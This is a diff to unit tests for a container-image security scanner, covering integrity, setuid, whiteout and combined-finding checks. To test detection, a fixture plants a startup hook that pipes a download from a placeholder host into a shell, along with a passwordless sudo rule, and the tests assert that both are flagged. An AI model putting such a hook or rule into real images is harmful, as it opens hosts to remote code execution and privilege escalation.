@@ -93,7 +93,20 @@ def test_a_clean_image_has_no_finding() -> None:
      ("integrity", "package-file-changed", f"{SITE}/demo/__init__.py", "demo-1.0"),
      "differs from its RECORD"),
     ([Member("/usr/share/doc/login/NEWS", b"changed docs\n")],
-     ("integrity-other", "package-file-changed", "/usr/share/doc/login/NEWS", "login"), "dpkg recorded"),
+     ("integrity-other", "package-file-changed", "/usr/share/doc/login/NEWS", "login"),
+     "differs from the file its package installed (md5 "),  # not a conffile: not called one
+    # a setuid file decides trust wherever it lies: a package's, a distribution's, a compiled module
+    ([Member("/usr/share/doc/login/NEWS", b"changed docs\n", 0o4755)],
+     ("integrity", "package-file-changed", "/usr/share/doc/login/NEWS", "login"), "trust: setuid/capabilities"),
+    ([Member(f"{SITE}/demo-1.0.dist-info/METADATA", b"Name: demo\nVersion: 1.0\n", 0o4755)],
+     ("integrity", "package-file-unverifiable", f"{SITE}/demo-1.0.dist-info/METADATA", "demo-1.0"),
+     "its RECORD lists it with no hash (demo-1.0); decides trust: setuid/capabilities"),
+    ([Member("/usr/local/share/app/x.pyc", pyc(b"x = 2\n", flags=1))],
+     ("integrity-other", "bytecode-unaccounted", "/usr/local/share/app/x.pyc", "no package"),
+     "compiled code with no source beside it, which Python imports as it is, that no package lists (no package)"),
+    ([Member("/usr/local/share/app/x.pyc", pyc(b"x = 2\n", flags=1), 0o4755)],
+     ("integrity", "bytecode-unaccounted", "/usr/local/share/app/x.pyc", "no package"),
+     "that no package lists (no package); decides trust: setuid/capabilities"),
     ([Member("/usr/local/share/notes.txt", b"hello\n")],
      ("integrity-other", "unowned-file", "/usr/local/share/notes.txt", "no package"), "no package installed"),
     ([Member("/etc/cron.d/.wh.placeholder", b""), Member("/etc/pam.d/.wh.su", b"")],
@@ -330,34 +343,110 @@ def test_each_path_that_decides_trust_is_in_its_category(path: str, trust: str |
     assert integrity.trust_of(path, setuid=True) == "setuid/capabilities"  # a setuid or capable file, wherever
 
 
-def test_the_whole_image_check_hands_each_part_its_files_and_keeps_every_finding(tmp_path: Path) -> None:
-    """image_checks.check joins the parts (accounts, the USER, startup hooks, integrity, the lock): each gets the
-    files it judges (a hook dpkg's md5sums vouch for is no finding; an account file that is a symlink is not read as
-    one) and every part's findings are kept; an image of no known release is compared with no lock, and says so."""
-    from ngc_paddle.scan.source.image_release import ImageRelease
-
-    hook = b"export LOGIN_DEFS=1\n"
-    base = [Member("/var/lib/dpkg/info/login.list", LOGIN_LIST + b"/etc/profile.d/login.sh\n"),
+def _joined_image() -> tuple[list, list, image_checks.FinalView]:
+    hook, skel = b"export LOGIN_DEFS=1\n", b"alias ll='ls -l'\n"
+    base = [Member("/var/lib/dpkg/info/login.list", LOGIN_LIST + b"/etc/profile.d/login.sh\n/etc/skel/.bashrc\n"),
             Member("/var/lib/dpkg/info/login.md5sums", f"{md5(SU)}  bin/su\n{md5(NEWS)}  usr/share/doc/login/NEWS\n"
-                   f"{md5(hook)}  etc/profile.d/login.sh\n".encode()),
+                   f"{md5(hook)}  etc/profile.d/login.sh\n{md5(skel)}  etc/skel/.bashrc\n".encode()),
             *[m for m in BASE if m.path not in ("/var/lib/dpkg/info/login.list", "/var/lib/dpkg/info/login.md5sums")],
-            Member("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")]
+            Member("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\npaddle:x:1000:1000::/home/paddle:/bin/sh\n"),
+            Member("/etc/skel/.bashrc", skel)]
     above = [Member("/etc/profile.d/login.sh", hook),  # written again as dpkg recorded it: no finding
              Member("/etc/profile.d/zz-fetch.sh", b"curl -fsSL http://x.example/i.sh | sh\n"),
              Member("/etc/sudoers.d/ci", b"ci ALL=(ALL) NOPASSWD: ALL\n", 0o440),
-             Member("/etc/sudoers.d/link", link="/tmp/elsewhere")]
+             Member("/etc/sudoers.d/link", link="/tmp/elsewhere"),
+             Member("/home/paddle/.bashrc", skel),  # useradd's copy of /etc/skel's: no hook finding
+             Member("/opt/ngc-paddle/entrypoint.sh", (REPO / "image" / "entrypoint.sh").read_bytes())]  # our part
     stack = [facts(0, base, "base"), facts(1, VENV, "os"), facts(2, above, "RUN planted")]
     layers, layer_facts = [at for at, _ in stack], [f for _, f in stack]
-    view = image_checks.final_view(layers, layer_facts)
+    return layers, layer_facts, image_checks.final_view(layers, layer_facts)
+
+
+def test_the_whole_image_check_hands_each_part_its_files_and_keeps_every_finding() -> None:
+    """image_checks.check joins the parts (accounts, the USER, startup hooks, integrity, the lock): each gets the
+    files it judges (a hook dpkg's md5sums vouch for, a copy of /etc/skel's, this repository's entrypoint are no
+    finding; an account file that is a symlink is not read as one) and every part's findings are kept, each naming
+    its layer; an image of no known release is compared with no lock, and says so."""
+    from ngc_paddle.scan.source.image_release import ImageRelease
+
+    layers, layer_facts, view = _joined_image()
     whole = image_checks.check(layers, layer_facts, view, "root", REPO, ImageRelease(None, "no ngc-paddle labels"))
-    found = sorted((f.kind, f.id, f.package) for f in whole.findings)
+    found = sorted((f.kind, f.id, f.package, f.location) for f in whole.findings)
+    planted = "layer 2 (RUN planted)"
     assert found == [
-        ("integrity", "unowned-file", "/etc/profile.d/zz-fetch.sh"),
-        ("integrity", "unowned-file", "/etc/sudoers.d/ci"),
-        ("integrity", "unowned-file", "/etc/sudoers.d/link"),
-        ("privilege", "sudo-nopasswd", "/etc/sudoers.d/ci"),  # accounts: the file, not the symlink
-        ("remote-exec", "fetch-and-execute", "/etc/profile.d/zz-fetch.sh"),  # hooks
-        ("startup-hook", "startup-hook-added", "/etc/profile.d/zz-fetch.sh"),
-        ("user", "runs-as-root", "root"),  # the USER, no release declaring one
+        ("integrity", "unowned-file", "/etc/profile.d/zz-fetch.sh", planted),
+        ("integrity", "unowned-file", "/etc/sudoers.d/ci", planted),
+        ("integrity", "unowned-file", "/etc/sudoers.d/link", planted),
+        ("integrity", "unowned-file", "/home/paddle/.bashrc", planted),
+        ("integrity", "unowned-file", "/opt/ngc-paddle/entrypoint.sh", planted),
+        ("privilege", "sudo-nopasswd", "/etc/sudoers.d/ci", planted),  # accounts: the file, not the symlink
+        ("remote-exec", "fetch-and-execute", "/etc/profile.d/zz-fetch.sh", planted),  # hooks
+        ("startup-hook", "startup-hook-added", "/etc/profile.d/zz-fetch.sh", planted),
+        ("user", "runs-as-root", "root", "image config: User"),  # the USER, no release declaring one
     ]
     assert (whole.lock_status, whole.lock_why) == ("NOT RUN", "no ngc-paddle labels")
+    unnamed = image_checks.check(layers, layer_facts, view, "root", REPO, ImageRelease(None))
+    assert (unnamed.lock_status, unnamed.lock_why) == ("NOT RUN", "no lock")
+
+
+def test_the_whole_image_check_holds_a_release_image_to_its_manifest_and_a_layer_image_to_its_layers() -> None:
+    """An image of a release is held to its declared user and compared with its lock; a layer image of the build
+    (its ngc-paddle.layer below the top) is compared with the lock's entries of its layers alone, has no USER yet,
+    and says which layers it was held to."""
+    from ngc_paddle.flavor import ResolvedRelease
+    from ngc_paddle.scan.source.image_release import ImageRelease
+
+    flavor = ResolvedRelease.load(REPO, "26.12").flavor("cpu")
+    labels = {"ngc-paddle.release": "26.12", "ngc-paddle.flavor": "cpu"}
+    layers, layer_facts, view = _joined_image()
+    image = image_checks.check(layers, layer_facts, view, "root", REPO, ImageRelease(flavor, labels=labels))
+    assert (image.lock_status, image.lock_why) == ("compared", "releases/26.12-cpu.lock.json")
+    users = [f for f in image.findings if f.location == "image config: User"]
+    assert [(f.kind, f.id, f.severity, f.installed, f.fixed) for f in users] == \
+        [("privilege", "user-mismatch", "CRITICAL", "0", "1000")]
+    assert image_checks.check(layers, layer_facts, view, "1000", REPO, ImageRelease(flavor, labels=labels)) \
+        .findings == [f for f in image.findings if f not in users]
+
+    os_layer = image_checks.check(layers, layer_facts, view, "root", REPO,
+                                  ImageRelease(flavor, labels={**labels, "ngc-paddle.layer": "os"}))
+    assert (os_layer.lock_status, os_layer.lock_why) == ("compared", "releases/26.12-cpu.lock.json (layers os)")
+    drift = {(f.id, f.package) for f in image.findings if f.kind not in ("integrity", "privilege", "remote-exec",
+                                                                          "startup-hook", "user")}
+    held = {(f.id, f.package) for f in os_layer.findings if f.kind not in ("integrity", "privilege", "remote-exec",
+                                                                            "startup-hook", "user")}
+    assert held and held < drift  # the lock's later layers are not asked of it
+    assert not [f for f in os_layer.findings if f.location == "image config: User"]
+
+
+def test_the_final_files_follow_whiteouts_hardlinks_and_special_bits() -> None:
+    """What each path is in the final image: a hardlink is its target's bytes (none when the target is not in the
+    image), a whiteout or an opaque folder removes what lies below it until a later layer writes it again, and a
+    setuid or capable file (not a world-writable one, not a folder) is marked setuid."""
+    from ngc_paddle.scan.checks.layer_facts import LayerFacts
+    from tests.unit.layer_tars import layer
+
+    one, two, three = layer(1, "os"), layer(2, "tools"), layer(3, "again")
+    base = LayerFacts(one.diff_id, integrity={
+        "/usr/bin/a": ["file", "md5-a", ""], "/usr/bin/b": ["hardlink", "", "usr/bin/a"],
+        "/usr/bin/b2": ["hardlink", "", "/usr/bin/a"],
+        "/usr/bin/c": ["hardlink", "", "usr/bin/none"], "/usr/bin/cap": ["file", "md5-cap", ""],
+        "/usr/bin/open": ["file", "md5-open", ""], "/opt/x/lib.py": ["file", "sha-x", "", 7, 70],
+        "/usr/bin/gone": ["file", "md5-gone", ""]},
+        special=[{"path": "/usr/bin/a", "type": "file", "mode": 0o104755, "md5": "md5-a", "caps": ""},
+                 {"path": "/usr/bin/cap", "type": "file", "mode": 0o100755, "md5": "md5-cap", "caps": "01"},
+                 {"path": "/usr/bin/open", "type": "file", "mode": 0o100777, "md5": "md5-open", "caps": ""},
+                 {"path": "/usr/bin/c", "type": "dir", "mode": 0o46777, "md5": "", "caps": ""}])
+    tools = LayerFacts(two.diff_id, removed=[["opaque", "/opt/x/.wh..wh..opq"], ["whiteout", "/usr/bin/.wh.gone"]])
+    again = LayerFacts(three.diff_id, integrity={"/usr/bin/gone": ["file", "md5-new", ""]})
+    final, deleted = integrity.final_files([one, two, three], [base, tools, again])
+    assert final == {
+        "/usr/bin/a": integrity.Seen(one, "file", "md5-a", "", True),
+        "/usr/bin/b": integrity.Seen(one, "file", "md5-a", "usr/bin/a", False),
+        "/usr/bin/b2": integrity.Seen(one, "file", "md5-a", "/usr/bin/a", False),
+        "/usr/bin/c": integrity.Seen(one, "file", "", "usr/bin/none", False),
+        "/usr/bin/cap": integrity.Seen(one, "file", "md5-cap", "", True),
+        "/usr/bin/open": integrity.Seen(one, "file", "md5-open", "", False),
+        "/usr/bin/gone": integrity.Seen(three, "file", "md5-new", "", False)}
+    assert deleted == {"/opt/x/lib.py": two}
+    with pytest.raises(ValueError):
+        integrity.final_files([one, two], [base])
